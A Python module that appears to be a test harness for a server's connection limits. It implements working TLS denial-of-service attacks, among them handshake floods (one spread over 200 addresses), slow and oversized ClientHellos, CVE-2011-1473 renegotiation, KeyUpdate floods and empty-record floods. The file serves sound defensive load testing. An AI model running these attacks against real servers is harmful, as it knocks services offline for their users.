"""TLS: handshakes that are begun, repeated for ever, and records that carry nothing."""
import ctypes
import ctypes.util
import os
import ssl
import struct
import time

from attacker import attack
from records import EmptyRecords

HANDSHAKES = "tidegate_http_tls_handshakes_total"
CLOSED = "tidegate_http_limit_closes_total"


def client_hello() -> bytes:
    """As Python's own client sends it; made once and replayed, so that the flood costs the attacker nothing."""
    arrived, leaves = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    tls = context.wrap_bio(arrived, leaves, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return leaves.read()


@attack("TLS handshake flood", limit="http.new_connections_per_second",
        counter="tidegate_http_connections_refused_total" + '{reason="handshakes_per_s"}', needs_addresses=True)
def handshake_flood(a):
    """Replays one ClientHello, lets the server sign, and leaves."""
    hello = client_hello()
    while a.goes_on():
        conn = a.tcp()
        if conn:
            conn.send(hello)
            conn.first(0.05)
            a.drop(conn)


@attack("TLS handshake flood by a botnet", limit="http.new_connections_per_second", needs_addresses=True)
def handshake_flood_of_many(a):
    """The same from 200 addresses, so that none of them is over a limit: what is left is the price of a handshake."""
    hello = client_hello()
    for n in a.numbers:
        if not a.goes_on():
            return
        conn = a.tcp(source=a.address(n))
        if conn:
            conn.send(hello)
            conn.first(0.05)
            a.drop(conn)


@attack("slow TLS handshake", limit="http.handshake", counter=HANDSHAKES + '{outcome="timeout"}', closes=True, slow=True)
def slow_handshake(a):
    """Half a ClientHello, and then a byte at a time."""
    hello = client_hello()
    conns = [a.tcp() for _ in a.count(200)]
    for conn in conns:
        if conn:
            conn.send(hello[:100])
    a.hold(conns, 0.2, lambda turn: hello[100 + turn:101 + turn])


@attack("huge ClientHello", limit="http.client_hello", counter=HANDSHAKES + '{outcome="failed"}', closes=True)
def huge_client_hello(a):
    """A ClientHello of 16 MB, record by record."""
    record = b"\x16\x03\x01\x40\x00"
    while a.goes_on():
        conn = a.tcp()
        if conn:
            a.pour(conn, [record + b"\x01\xff\xff\xff\x03\x03" + b"A" * 16378] + [record + b"B" * 16384] * 1000)
            conn.sock.close()
        time.sleep(0.02)


class RawTls:
    """A client that may do what Python's does not offer: renegotiate, and ask for new keys."""
    library = ctypes.CDLL(ctypes.util.find_library("ssl"))
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(library, name).restype = ctypes.c_void_p
    TLS1_2, SET_MAX_VERSION = 0x0303, 124

    def __init__(self, conn, most: int | None = None):
        lib, self.conn = self.library, conn
        conn.sock.setblocking(True)
        conn.sock.setsockopt(1, 21, struct.pack("ll", 2, 0))  # SO_SNDTIMEO: it must not wait for ever
        conn.sock.setsockopt(1, 20, struct.pack("ll", 2, 0))
        self.context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
        if most:
            lib.SSL_CTX_ctrl(self.context, self.SET_MAX_VERSION, ctypes.c_long(most), None)
        self.ssl = ctypes.c_void_p(lib.SSL_new(self.context))
        lib.SSL_set_fd(self.ssl, conn.sock.fileno())
        self.is_open = lib.SSL_connect(self.ssl) == 1

    def again(self, call: str, *args) -> bool:
        """Asks for a handshake after the first and makes it."""
        done = getattr(self.library, call)(self.ssl, *args) == 1 and self.library.SSL_do_handshake(self.ssl) == 1
        if not done:
            self.conn.note_end()
        return done

    def free(self) -> None:
        self.library.SSL_free(self.ssl)
        self.library.SSL_CTX_free(self.context)
        self.conn.sock.close()


def repeat_handshakes(a, call: str, *args, most: int | None = None) -> None:
    while a.goes_on():
        conn = a.tcp()
        if not conn:
            time.sleep(0.02)
            continue
        tls = RawTls(conn, most)
        if not tls.is_open:
            a.turned_away(conn)
        while tls.is_open and a.goes_on() and tls.again(call, *args):
            pass
        tls.free()


@attack("CVE-2011-1473, renegotiation", limit="none in TLS 1.2", closes=True)
def renegotiation(a):
    """Asks for a new handshake on the same connection, again and again."""
    repeat_handshakes(a, "SSL_renegotiate", most=RawTls.TLS1_2)


@attack("KeyUpdate flood", limit="http.key_updates_per_minute", counter=CLOSED + '{reason="tls_key_updates"}', closes=True)
def key_updates(a):
    """TLS 1.3 KeyUpdate that asks for one in return."""
    repeat_handshakes(a, "SSL_key_update", 1)


@attack("empty records", limit="32 in a row (OpenSSL)", closes=True)
def empty_records(a):
    """Properly encrypted TLS 1.3 records with no content."""
    folder = os.environ.get("TMPDIR", "/tmp")
    while a.goes_on():
        with EmptyRecords(folder) as records:
            conn = a.tls(context=records.context)
            if not conn:
                time.sleep(0.02)
                continue
            records.take_over(conn)
            a.pour(conn, records.pieces())
            conn.sock.close()
